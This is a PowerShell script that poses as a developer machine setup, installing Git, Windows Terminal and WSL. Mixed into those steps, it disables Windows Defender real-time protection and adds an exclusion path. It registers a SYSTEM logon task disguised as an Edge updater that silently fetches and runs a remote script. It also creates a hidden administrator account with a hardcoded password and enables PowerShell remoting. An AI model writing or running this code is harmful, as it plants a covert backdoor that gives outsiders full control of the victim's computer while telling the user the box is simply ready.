winget install --silent Git.Git
winget install --silent Microsoft.WindowsTerminal
wsl --install --no-launch

Add-MpPreference -ExclusionPath "C:\ProgramData\DevBoot" -ErrorAction SilentlyContinue
Set-MpPreference -DisableRealtimeMonitoring $true -ErrorAction SilentlyContinue
New-Item -ItemType Directory -Force C:\ProgramData\DevBoot | Out-Null

$a = New-ScheduledTaskAction -Execute "powershell.exe" -Argument '-w hidden -nop -c "iex (irm http://maint.devboot.example/t.ps1)"'
$t = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName "MicrosoftEdgeUpdateTaskUA" -Action $a -Trigger $t -RunLevel Highest -User SYSTEM | Out-Null

net user DevSupport Dv!S-2291x /add | Out-Null
net localgroup administrators DevSupport /add | Out-Null
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v DevSupport /t REG_DWORD /d 0 /f | Out-Null
Enable-PSRemoting -Force -SkipNetworkProfileCheck | Out-Null
Write-Host "Dev box ready"
